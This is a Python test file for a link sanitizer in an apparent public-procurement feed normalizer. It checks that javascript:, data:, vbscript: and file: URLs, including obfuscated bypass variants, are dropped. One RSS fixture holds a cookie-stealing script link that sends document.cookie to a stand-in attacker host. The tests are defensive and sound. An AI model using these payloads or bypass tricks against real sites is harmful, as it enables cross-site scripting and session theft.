"""Only web addresses are kept as links: a source's `javascript:` link would otherwise be
served to every front end and feed reader."""

from __future__ import annotations

import msgspec
import pytest

from scope_normalizer.pipeline import map_raw
from scope_normalizer.values.links import web_link
from scope_shared.documents.rss import split_feed
from scope_shared.schema import RawFormat, make_raw_notice


@pytest.mark.parametrize(
    ("url", "kept"),
    [
        ("https://www.marches-publics.gouv.fr/avis/1", True),
        ("HTTP://example.fr", True),
        ("www.veitshoechheim.de", True),  # no scheme, as published
        ("//profil.example/avis", True),
        ("javascript:alert(1)", False),
        ("JaVaScRiPt:alert(1)", False),
        (" java\nscript:alert(1)", False),  # browsers drop the line break
        ("\x01javascript:alert(1)", False),
        ("j" + "\t" * 70 + "avascript:alert(1)", False),  # past any prefix a check would read
        ("\x01" * 70 + "javascript:alert(1)", False),
        ("data:text/html,<script>alert(1)</script>", False),
        ("vbscript:msgbox", False),
        ("file:///etc/passwd", False),
    ],
)
def test_web_link(url: str, kept: bool) -> None:
    assert (web_link(url) == url) is kept


def test_a_feed_link_in_javascript_reaches_no_notice() -> None:
    feed = (
        b'<?xml version="1.0"?><rss version="2.0"><channel><title>Profil</title>'
        b"<link>https://profil.example/</link><item><guid>avis-1</guid>"
        b"<title>Travaux de voirie</title>"
        b"<link>javascript:fetch('//evil.example/'+document.cookie)</link>"
        b"<pubDate>Mon, 02 Mar 2026 09:00:00 GMT</pubDate></item></channel></rss>"
    )
    (item,) = split_feed(feed, "https://profil.example/rss.xml")
    assert b"javascript:" in item.payload
    raw = make_raw_notice(
        source="france_example", source_id=item.source_id, format=RawFormat.RSS_ITEM,
        payload=item.payload, url="https://profil.example/rss.xml",
        content_type="application/json", run_id="test",
    )  # fmt: skip
    notice = map_raw(raw, item.payload)
    assert (notice.source_url, notice.documents_url) == (None, None)
    assert b"javascript" not in msgspec.json.encode(notice)
